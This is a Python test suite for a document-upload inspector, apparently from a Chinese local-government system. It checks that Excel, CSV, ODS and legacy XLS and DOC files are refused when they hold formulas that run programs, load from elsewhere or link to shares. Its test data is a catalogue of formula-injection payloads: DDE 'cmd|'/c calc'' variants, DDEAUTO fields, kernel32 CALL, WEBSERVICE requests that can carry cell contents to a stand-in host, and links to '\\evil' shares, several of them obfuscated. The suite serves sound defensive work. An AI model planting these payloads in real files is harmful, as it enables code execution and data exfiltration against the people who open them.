"""Formulas that act are refused with sheet and cell, in every kind of table; counting stays."""

import struct
import time

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.workbook.defined_name import DefinedName

from tests.hostile import old_sheet, old_word, open_document, saved, with_entries, workbook
from township.files import inspector
from township.files.checks import Refusal
from township.files.checks.formulas import SUSPICIOUS, acting

PROGRAM, ELSEWHERE, LINK = "会运行程序", "会从别处载入", "指向共享文件夹或程序"
ACTING = [
    ("cmd|'/c calc'!A1", PROGRAM),
    ("cmd|' /C calc'!A0", PROGRAM),
    ("1+2+cmd|'/c calc'!A1", PROGRAM),
    ("'cmd'|'/c calc'!A1", PROGRAM),
    ("MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''", PROGRAM),
    ("IF(1=1,cmd|'/c calc'!A1,0)", PROGRAM),
    ("ｃｍｄ｜'/c calc'！A1", PROGRAM),
    ('DDE("cmd";"/c calc";"x")', PROGRAM),
    ('CALL("kernel32","WinExec","JCJ","calc",0)', PROGRAM),
    ('REGISTER.ID("a","b")', PROGRAM),
    ('RTD("x.y",,"z")', PROGRAM),
    ('WEBSERVICE("http://e.cn/?"&A1)', ELSEWHERE),
    ('_xlfn.WEBSERVICE("http://e.cn/")', ELSEWHERE),
    ('COM.MICROSOFT.WEBSERVICE("http://e.cn/")', ELSEWHERE),
    ('webservice ("http://e.cn/")', ELSEWHERE),
    ('SUM(1,FILTERXML(WEBSERVICE(A1),"//a"))', ELSEWHERE),
    ('_xlfn.IMAGE("http://e.cn/a.png")', ELSEWHERE),
    ('IMPORTXML(CONCAT("http://e.cn/",A1),"//a")', ELSEWHERE),
    ("'\\\\evil\\share\\[a.xlsx]Sheet1'!A1", ELSEWHERE),
    ("SUM('http://e.cn/[a.xlsx]Sheet1'!A1)", ELSEWHERE),
    ("['file://evil/a.ods'#$Sheet1.A1]", ELSEWHERE),
    ('HYPERLINK("\\\\evil\\share\\a.docx","通知")', LINK),
    ('HYPERLINK("file://evil/a.docx","通知")', LINK),
    ('HYPERLINK("C:\\Windows\\System32\\calc.exe")', LINK),
    ('HYPERLINK("calc.exe ","通知")', LINK),
    ('HYPERLINK("\\\\"&"evil\\a.pdf","通知")', LINK),
    ('HYPERLINK("\\"&A1&"\\evil\\a.bat")', LINK),
    ('HYPERLINK(CHAR(92)&CHAR(92)&"evil\\x")', LINK),
    ('HYPERLINK(IF(A1=1,"https://www.gov.cn","\\\\evil\\x"))', LINK),
    ('HYPERLINK("ms-msdt:/id","通知")', LINK),
    ('IF(1,HYPERLINK(("\\\\evil\\x"),"a"),0)', LINK),
]
COUNTING = [
    "SUM(A1:A9)",
    "A1+B1-C1",
    '"a|b"&A1',
    "VLOOKUP(A2,'2025年（一|二）'!A:C,3,0)",
    "VLOOKUP(A2,Sheet2!$A$2:$C$90,3,FALSE)",
    "'[1]去年'!A1",
    "'D:\\统计\\[去年.xlsx]Sheet1'!A1",
    'IFERROR(INDEX({1,2;3,4},1,2),"")',
    "of:=SUM([.A1:.A3])+{1;2|3;4}",
    'HYPERLINK("https://www.gov.cn/a.exe","通知")',
    'HYPERLINK("mailto:a@b.cn")',
    'HYPERLINK("#\'"&A2&"\'!A1",A2)',
    'HYPERLINK("#Sheet2!A1","cmd.exe")',
    'HYPERLINK("扫描件\\001.pdf","查看")',
    'HYPERLINK(B2,"查看")',
    'HYPERLINK("www.cq.gov.com","网站")',
    'TEXT(A1,"WEBSERVICE(")',
    "RECALL(1)",
    "名单!A1",
    "",
]


def examined(folder, content, name):
    path = folder / "a"
    path.write_bytes(content)
    return inspector.examine(path, name)


@pytest.mark.parametrize(("formula", "words"), ACTING)
def test_what_a_formula_does_beyond_counting(formula, words):
    assert words in acting(formula)
    assert SUSPICIOUS.search(formula.encode()) or "｜" in formula


@pytest.mark.parametrize("formula", COUNTING)
def test_a_formula_that_counts_is_let_pass(formula):
    assert acting(formula) is None


@given(st.text(alphabet="ABab19+-*/(), :;!$.=&<>", max_size=60))
def test_without_names_quotes_and_bars_nothing_acts(text):
    assert acting(text) is None


@given(st.text(alphabet="A1+(\"'|!{", max_size=30), st.sampled_from(["=", "+", "1+", "SUM(1)+"]))
def test_nothing_that_stands_behind_takes_an_exchange_back(rest, before):
    assert acting(f"{before}cmd|'/c calc'!A1+{rest}")


def book(formula):
    made = openpyxl.Workbook()
    made.active.title = "说明"
    made.create_sheet("名单")["B3"] = f"={formula}"
    return saved(made)


@pytest.mark.parametrize(("formula", "words"), ACTING)
def test_a_workbook_is_refused_with_sheet_and_cell(tmp_path, formula, words):
    with pytest.raises(Refusal) as refusal:
        examined(tmp_path, book(formula), "名单.xlsx")
    assert str(refusal.value).startswith("的工作表“名单”B3里有") and words in str(refusal.value)
    assert "改成数值或文字" in str(refusal.value)


@pytest.mark.parametrize("formula", COUNTING[:-1])
def test_a_workbook_that_counts_is_kept(tmp_path, formula):
    assert examined(tmp_path, book(formula), "名单.xlsx")["warnings"] == []


@pytest.mark.parametrize(
    "written",
    [
        "<f><![CDATA[cmd|'/c calc'!A1]]></f>",
        "<f>c<!-- -->md|'/c calc'!A1</f>",
        "<f>cmd&#124;'/c calc'!A1</f>",
        "<x:f xmlns:x='http://schemas.openxmlformats.org/spreadsheetml/2006/main'>cmd|'/c'!A1</x:f>",
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8", "utf-16"])
@pytest.mark.parametrize("filling", [0, 3_000_000], ids=["small", "large"])
def test_a_formula_is_found_however_it_is_written(tmp_path, written, encoding, filling):
    part = (
        f'<?xml version="1.0" encoding="{encoding}"?><worksheet><sheetData><row><c r="C7">'
        f"{written}<v>1</v></c></row></sheetData><!--{'x' * filling}--></worksheet>"
    ).encode(encoding)
    content = with_entries(workbook(), {"xl/worksheets/sheet1.xml": part})
    with pytest.raises(Refusal, match="的工作表“花名册”C7里有会运行程序"):
        examined(tmp_path, content, "名单.xlsx")


def test_names_conditions_and_lists_are_looked_at_too(tmp_path):
    made = openpyxl.Workbook()
    made.defined_names["合计"] = DefinedName("合计", attr_text="cmd|'/c calc'!A1")
    with pytest.raises(Refusal, match="名称“合计”里有会运行程序"):
        examined(tmp_path, saved(made), "名单.xlsx")
    for tag in ("formula", "formula1"):
        part = f"<worksheet><sheetData/><x><{tag}>WEBSERVICE(A1)</{tag}></x></worksheet>"
        content = with_entries(workbook(), {"xl/worksheets/sheet1.xml": part})
        with pytest.raises(Refusal, match="会从别处载入"):
            examined(tmp_path, content, "名单.xlsx")


def test_a_large_workbook_with_formulas_is_looked_through_in_time(tmp_path):
    made = openpyxl.Workbook(write_only=True)
    page = made.create_sheet("明细")
    for row in range(1, 6001):
        page.append(["某某村", *range(25), f"=SUM(B{row}:Z{row})"])
    path = tmp_path / "a"
    path.write_bytes(saved(made))
    began = time.process_time()
    assert inspector.examine(path, "明细.xlsx")["warnings"] == []
    assert time.process_time() - began < inspector.SECONDS


@pytest.mark.parametrize(
    ("text", "words"),
    [
        ("姓名,电话\n张三,1\n李四,=cmd|'/c calc'!A1\n", "的第3行第2列里有会运行程序"),
        ("姓名\n\"=cmd|'/c calc'!A1\"\n", "的第2行第1列里有会运行程序"),
        ('姓名\n"=HYPERLINK(""\\\\evil\\x"",""a"")"\n', "的第2行第1列里有指向共享文件夹"),
        ('a;b\n1;=WEBSERVICE("http://e.cn")\n', "的第2行第2列里有会从别处载入"),
        ('a\tb\n1\t=IMAGE("http://e.cn/p")\n', "的第2行第2列里有会从别处载入"),
        ("a\n-2+3+cmd|'/c calc'!A0\n", "的第2行第1列里有会运行程序"),
        ("a\n@SUM(1+1)*cmd|'/c calc'!A0\n", "会运行程序"),
        ("a\n＝cmd|'/c calc'!A0\n", "会运行程序"),
        ('a\n"=\nWEBSERVICE(A1)"\n', "会从别处载入"),
        ("a\n='\\\\evil\\share\\[x.xls]Sheet1'!A1\n", "会从别处载入"),
        ('ID;PWXL;N;E\nC;Y1;X1;K0;EEXEC("calc")\nE\n', "交换格式"),
        ("a,1\n" * 600_000 + "b,=cmd|'/c calc'!A1\n", "的第600001行第2列里有会运行程序"),
    ],
)
@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030", "utf-16"])
def test_a_separated_text_is_refused_with_line_and_column(tmp_path, text, words, encoding):
    with pytest.raises(Refusal, match=words):
        examined(tmp_path, text.encode(encoding), "名单.csv")


@pytest.mark.parametrize(
    "text",
    [
        "a,-5,+3,-1.5\n",
        '=SUM(A1:A3),=A1&"（人）"\n',
        "- 会议（一）\n- 见通知|附件!\n"[:9],
        "@张三（组长） 请到会\n",
        '"=HYPERLINK(""https://www.gov.cn"",""a"")"\n',
        "+86 13900000000\n",
        "ID;Phone;Name\n1;2;3\n",
        "-5,foo\n" * 300_000,
    ],
)
def test_a_separated_text_that_counts_is_kept(tmp_path, text):
    assert examined(tmp_path, text.encode(), "名单.csv")["media_type"] == "text/csv"


@pytest.mark.parametrize(
    "formula",
    [
        "msoxl:=cmd|'/c calc'!A1",
        'of:=DDE("cmd";"/c calc";"x")',
        'of:=WEBSERVICE("http://e.cn")',
        'of:=HYPERLINK("\\\\evil\\x";"a")',
    ],
)
def test_an_open_sheet_is_refused_with_sheet_and_cell(tmp_path, formula):
    cells = (
        '<t:table-row t:number-rows-repeated="4"><t:table-cell/></t:table-row>'
        '<t:table-row><t:table-cell t:number-columns-repeated="2"/>'
        f"<t:table-cell t:formula='{formula.replace(chr(39), '&apos;')}'/></t:table-row>"
    )
    content = (
        '<o:document-content xmlns:o="o" xmlns:t="t"><t:table t:name="名单">'
        f"{cells}</t:table></o:document-content>"
    )
    made = open_document("spreadsheet", {"content.xml": content})
    with pytest.raises(Refusal, match="的工作表“名单”C5里有"):
        examined(tmp_path, made, "名单.ods")


# --- old workbooks ---


def record(kind, data):
    return struct.pack("<HH", kind, len(data)) + data


def narrow(text):
    return b"\0" + text.encode("latin-1")


def wide(text):
    return b"\1" + text.encode("utf-16-le")


def bound(at):
    return record(0x0085, struct.pack("<IBB", at, 0, 0) + bytes([2]) + wide("名单"))


def formula(tokens, row=6, column=2):
    head = struct.pack("<HHH", row, column, 0) + bytes(14)
    return record(0x0006, head + struct.pack("<H", len(tokens)) + tokens)


def text_token(text):
    return b"\x17" + bytes([len(text)]) + wide(text)


def function(number, arguments):
    return b"\x42" + struct.pack("<BH", arguments, number)


def sheet_after(*records):
    """A workbook with one sheet; what is told in front of it stands in the head."""
    begin = record(0x0809, bytes(16))
    head, sheet = records[:-1], records[-1]
    before = len(begin) + len(bound(0)) + sum(map(len, head)) + 4
    return old_sheet(bound(before), *head, record(0x000A, b""), begin, sheet)


BESIDE = record(0x01AE, struct.pack("<HH", 1, 12) + narrow("cmd\x03/c calc"[:12]))
PLACES = record(0x0017, struct.pack("<HHHH", 1, 0, 0, 0))
YOUNGER = record(
    0x0018,
    struct.pack("<HBBHHHBBBB", 0, 0, len("_xlfn.WEBSERVICE"), 0, 0, 0, 0, 0, 0, 0)
    + narrow("_xlfn.WEBSERVICE"),
)
LINK_CLASS = bytes.fromhex("d0c9ea79f9bace118c8200aa004ba90b")
MONIKER = bytes.fromhex("e0c9ea79f9bace118c8200aa004ba90b")


def link(target):
    text = f"{target}\0".encode("utf-16-le")
    body = struct.pack("<HHHH", 6, 6, 2, 2) + LINK_CLASS + struct.pack("<II", 2, 3)
    return record(0x01B8, body + MONIKER + struct.pack("<I", len(text)) + text)


OLD_ACTING = {
    "exchange": (BESIDE, PLACES, formula(b"\x59" + struct.pack("<HI", 0, 1))),
    "younger function": (YOUNGER, formula(b"\x23" + struct.pack("<I", 1) + function(255, 1))),
    "call": (formula(text_token("kernel32") + function(150, 1)),),
    "share": (formula(text_token("\\\\evil\\x") + text_token("通知") + function(359, 2)),),
    "share in two": (formula(text_token("\\") + text_token("\\evil") + function(359, 1)),),
    "program": (formula(text_token("calc.exe") + function(359, 1)),),
    "link": (link("\\\\evil\\x"),),
    "link to a program": (link("file:///C:/Windows/calc.exe"),),
}


@pytest.mark.parametrize("records", OLD_ACTING.values(), ids=OLD_ACTING)
def test_an_old_workbook_is_refused_with_sheet_and_cell(tmp_path, records):
    with pytest.raises(Refusal, match="的工作表“名单”C7里有"):
        examined(tmp_path, sheet_after(*records), "名单.xls")


def test_what_is_only_named_in_an_old_workbook_is_refused_too(tmp_path):
    with pytest.raises(Refusal, match="里有会运行程序"):
        examined(tmp_path, sheet_after(BESIDE, record(0x0201, bytes(6))), "名单.xls")


@pytest.mark.parametrize(
    "records",
    [
        (formula(text_token("https://www.gov.cn/") + function(359, 1)),),
        (formula(text_token("cmd") + function(4, 1)),),
        (link("https://www.gov.cn/"),),
        (record(0x01AE, struct.pack("<HH", 1, 0x0401)), PLACES, formula(b"\x5a" + bytes(6))),
        (
            record(0x01AE, struct.pack("<HH", 1, 10) + narrow("\x01\x01D\x02a.xls\x00\x00"[:10])),
            PLACES,
            formula(b"\x5a" + bytes(6)),
        ),
    ],
    ids=["web", "count", "link to the web", "own sheet", "file beside it"],
)
def test_an_old_workbook_that_counts_is_kept(tmp_path, records):
    assert examined(tmp_path, sheet_after(*records), "名单.xls")["warnings"] == []


@pytest.mark.parametrize(
    "field",
    [r'DDEAUTO c:\\cmd.exe "/k calc"', 'INCLUDEPICTURE "http://e.cn/p"', r'HYPERLINK "\\\\e\\a"'],
)
@pytest.mark.parametrize("encoding", ["latin-1", "utf-16-le"])
def test_a_field_of_an_old_word_file_is_refused(tmp_path, field, encoding):
    text = f"\x13 {field} \x14甲\x15" if encoding != "latin-1" else f"\x13 {field} \x14a\x15"
    with pytest.raises(Refusal, match=r"会运行程序|会从别处载入|指向共享文件夹"):
        examined(tmp_path, old_word(text=text.encode(encoding)), "章程.doc")
